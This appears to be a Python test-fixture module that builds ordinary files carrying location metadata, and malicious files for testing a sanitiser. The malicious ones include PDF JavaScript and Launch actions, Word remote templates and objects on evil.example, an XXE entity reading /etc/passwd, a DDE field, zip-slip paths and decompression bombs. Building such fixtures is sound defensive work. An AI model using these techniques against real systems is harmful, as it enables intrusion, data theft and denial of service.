"""Files made for the tests: ones that people really send, and ones that mean harm. No live malware: EICAR's text is cut
in two here and joined at run time."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw, PngImagePlugin

GPS = "GPSLatitude-33.9716"
OWNER = "Fatima-Zahra"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + rb"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def painting(size: tuple[int, int] = (320, 200), mode: str = "RGB") -> Image.Image:
    """A picture whose upper left corner is red, so that turning it can be seen."""
    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, size[0] // 4, size[1] // 4), fill="red")
    for step in range(0, size[0], 7):
        draw.line((step, 0, size[0] - step, size[1]), fill=(step % 255, 90, 160))
    draw.rectangle((0, 0, size[0] // 4, size[1] // 4), fill="red")
    return image.convert(mode)


def exif(orientation: int = 1) -> Image.Exif:
    """What a phone writes: its name, its owner, the place and the way up."""
    tags = Image.Exif()
    tags[0x010F], tags[0x0112], tags[0x013B], tags[0x010E] = "Phone", orientation, OWNER, GPS
    place = tags.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (33.0, 58.0, 17.76), "W", (6.0, 50.0, 59.0)
    return tags


def _saved(image: Image.Image, kind: str, **options: object) -> bytes:
    out = BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def jpeg(orientation: int = 1, **options: object) -> bytes:
    xmp = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'><exif:GPSLatitude>{GPS}</exif:GPSLatitude></x:xmpmeta>".encode()
    return _saved(painting(), "JPEG", exif=exif(orientation), xmp=xmp, comment=OWNER.encode(), **options)


def cmyk_jpeg() -> bytes:
    return _saved(painting(mode="CMYK"), "JPEG")


def motion_photo() -> bytes:
    """A phone's picture with its little film after the end."""
    return jpeg() + mp4()


def png(**options: object) -> bytes:
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Location", GPS)
    texts.add_itxt("XML:com.adobe.xmp", OWNER)
    return _saved(painting(), "PNG", pnginfo=texts, exif=exif(), **options)


def heic(orientation: int = 1) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    return _saved(painting(), "HEIF", exif=exif(orientation).tobytes(), quality=60)


def pdf(*, change: object = None, **options: object) -> bytes:
    """A page with a scanned picture that carries its place, an author, and whatever `change` adds."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(595, 842))
    picture = document.make_stream(jpeg(), Type=Name.XObject, Subtype=Name.Image, Width=320, Height=200)
    picture.ColorSpace, picture.BitsPerComponent, picture.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    page.Resources = Dictionary(XObject=Dictionary(Im0=picture))
    page.Contents = document.make_stream(b"q 500 0 0 300 40 400 cm /Im0 Do Q")
    document.docinfo["/Author"] = OWNER
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [OWNER]
    if change is not None:
        change(document)
    out = BytesIO()
    document.save(out, **options)
    return out.getvalue()


def active_pdf() -> bytes:
    """Every way that is known for a PDF to act by itself or to carry another file."""

    def change(document: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert('HARM')"))
        document.Root.OpenAction = script
        document.Root.AA = Dictionary(WC=document.make_indirect(script))
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
        document.attachments["harm.exe"] = pikepdf.AttachedFileSpec(document, b"MZ HARM", filename="harm.exe")
        page = document.pages[0]
        page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("HARM.exe")))
        launch = Dictionary(S=Name.Launch, Win=Dictionary(F=String("HARM.exe")))
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=launch)
        chained = Dictionary(
            S=Name.GoTo, D=Array([page.obj, Name.Fit]), Next=Dictionary(S=Name.JavaScript, JS=String("HARM"))
        )
        second = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=chained)
        pinned = Dictionary(
            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), Contents=String("HARM")
        )
        page.Annots = document.make_indirect(
            Array([document.make_indirect(link), second, document.make_indirect(pinned)])
        )
        document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp>HARM</xdp>"))

    return pdf(change=change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def locked_pdf(user: str, owner: str = "owner") -> bytes:
    return pdf(encryption=pikepdf.Encryption(user=user, owner=owner))


def pages_pdf(count: int) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        for _ in range(count - 1):
            document.add_blank_page()

    return pdf(change=change)


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def document_xml(inner: str = "<w:p><w:r><w:t>شكاية</w:t></w:r></w:p>", before: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document xmlns:w="{W}"><w:body>{inner}</w:body></w:document>'
    )


def links(*targets: tuple[str, str]) -> str:
    """A part of relationships that lead outside: pairs of kind and target."""
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(targets)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">{rows}</Relationships>'


def docx(parts: dict[str, str | bytes] | None = None, *, without: str = "") -> bytes:
    """A Word document with an author, a photo that carries its place, and `parts` besides."""
    out = BytesIO()
    everything: dict[str, str | bytes] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="{RELS}"><Relationship Id="a" '
        f'Type="{OFFICE}/officeDocument" Target="word/document.xml"/><Relationship Id="t" Type="'
        'http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail" '
        'Target="docProps/thumbnail.jpeg"/></Relationships>',
        "word/document.xml": document_xml(),
        "word/_rels/document.xml.rels": links(("hyperlink", "https://www.mediateur.ma/")),
        "word/_rels/settings.xml.rels": links(("attachedTemplate", r"file:///C:\Users\Fatima-Zahra\Normal.dotm")),
        "word/media/image1.jpeg": jpeg(),
        "docProps/core.xml": f"<coreProperties><creator>{OWNER}</creator></coreProperties>",
        "docProps/app.xml": f"<Properties><Company>{OWNER}</Company></Properties>",
        "docProps/thumbnail.jpeg": jpeg(),
    } | (parts or {})
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in everything.items():
            if name != without:
                archive.writestr(name, data)
    return out.getvalue()


def zip_of(parts: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def box(name: bytes, *inner: bytes) -> bytes:
    body = b"".join(inner)
    return struct.pack(">I", len(body) + 8) + name + body


def handler(kind: bytes) -> bytes:
    return box(b"hdlr", bytes(8) + kind + bytes(12) + b"\0")


def track(kind: bytes) -> bytes:
    times = struct.pack(">IIIIII", 0, 3_800_000_000, 3_800_000_000, 1, 0, 1) + bytes(60)
    return box(
        b"trak", box(b"tkhd", times), box(b"mdia", box(b"mdhd", times), handler(kind), box(b"minf", box(b"stbl")))
    )


def mp4(brand: bytes = b"isom", kinds: tuple[bytes, ...] = (b"vide", b"soun"), first: bytes = b"") -> bytes:
    """A film with its place (`©xyz`) and its owner, the index after the film as phones write it, or before."""
    place = box(b"udta", box(b"\xa9xyz", struct.pack(">HH", 17, 0x15C7) + b"+33.9716-006.8498/" + GPS.encode()))
    names = box(b"meta", bytes(4), handler(b"mdta"), box(b"ilst", box(b"\xa9nam", OWNER.encode())))
    times = struct.pack(">IIIIII", 0, 3_800_000_000, 3_800_000_000, 1000, 5000, 1) + bytes(76)
    index = box(b"moov", box(b"mvhd", times), *(track(kind) for kind in kinds), place, names)
    return b"".join(
        (
            box(b"ftyp", brand, bytes(4), brand, b"mp42"),
            first,
            box(b"mdat", b"SOUND AND PICTURE" * 20),
            index,
            box(b"uuid", bytes(16), OWNER.encode()),
            box(b"free", GPS.encode()),
        )
    )


def m4a() -> bytes:
    return mp4(b"M4A ", (b"soun",))


def mp3(*, tagged: bool = True, frames: int = 12) -> bytes:
    frame = b"\xff\xfb\x90\x00" + b"\x55" * (144 * 128000 // 44100 - 4)
    text = GPS.encode() + OWNER.encode()
    before = b"ID3\x04\x00\x00" + bytes([0, 0, len(text) >> 7, len(text) & 0x7F]) + text
    after = b"TAG" + OWNER.encode().ljust(125, b"\0")
    return (before if tagged else b"") + frame * frames + (after if tagged else b"")


def huge_png(side: int = 50_000) -> bytes:
    """A small file that says it is 2,500 million pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    rows = zlib.compress(bytes(200_000))
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def bomb_docx() -> bytes:
    return docx({"word/media/zeros.bin": bytes(110 * 1024 * 1024)})


MACRO_TYPE = "vnd.ms-word.document.macroEnabled.main"
PLAIN_TYPE = "vnd.openxmlformats-officedocument.wordprocessingml.document.main"
SETTINGS = "word/_rels/settings.xml.rels"
EXCHANGE = (
    "<w:p><w:r><w:instrText xml:space='preserve'> DDE</w:instrText></w:r>"
    "<w:r><w:instrText>AUTO c:\\cmd</w:instrText></w:r></w:p>"
)
FILE_ENTITY = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'

# Parts that make a Word document do something by itself.
ACTIVE_DOCX: dict[str, dict[str, str | bytes]] = {
    "macro": {"word/vbaProject.bin": b"x"},
    "macro type": {"[Content_Types].xml": CONTENT_TYPES.replace(PLAIN_TYPE, MACRO_TYPE)},
    "activex": {"word/activeX/activeX1.bin": b"x"},
    "ole object": {"word/embeddings/oleObject1.bin": b"x"},
    "remote template": {SETTINGS: links(("attachedTemplate", "https://evil.example/a.dotm"))},
    "template on a share": {SETTINGS: links(("attachedTemplate", r"\\evil.example\a.dotm"))},
    "template on a share, as address": {SETTINGS: links(("attachedTemplate", "file://evil.example/a.dotm"))},
    "outside object": {"word/_rels/document.xml.rels": links(("oleObject", "mhtml:https://evil.example!x"))},
    "outside picture": {"word/_rels/document.xml.rels": links(("image", "https://evil.example/spy.png"))},
    "external entity": {"word/document.xml": document_xml(before=FILE_ENTITY)},
    "entities in UTF-16": {"word/styles.xml": '<!DOCTYPE l [<!ENTITY a "ha">]><l/>'.encode("utf-16")},
    "dynamic exchange in two runs": {"word/document.xml": document_xml(EXCHANGE)},
    "zip slip": {"../../etc/cron.d/x": b"x"},
    "absolute path": {"/etc/cron.d/x": b"x"},
}


def bomb_pdf(megabytes: int = 3000) -> bytes:
    """A PDF whose list of objects unpacks to gigabytes: the same compressed block again and again."""
    packer = zlib.compressobj(9)
    head = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = head + block * megabytes + packer.flush()
    stream = b"1 0 obj\n<</Type/ObjStm/N 2/First 10/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed) + packed
    rest = b"\nendstream\nendobj\n"
    where = 9 + len(stream) + len(rest)
    rows = (
        bytes((0, 0, 0, 0, 0, 1, 0, 0, 9, 0, 2, 0, 0, 1, 0, 2, 0, 0, 1, 1)) + b"\x01" + where.to_bytes(3, "big") + b"\0"
    )
    table = zlib.compress(rows)
    xref = (
        b"4 0 obj\n<</Type/XRef/Size 5/W[1 3 1]/Root 2 0 R/Filter/FlateDecode/Length %d>>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % where
    )
    return b"%PDF-1.5\n" + stream + rest + xref
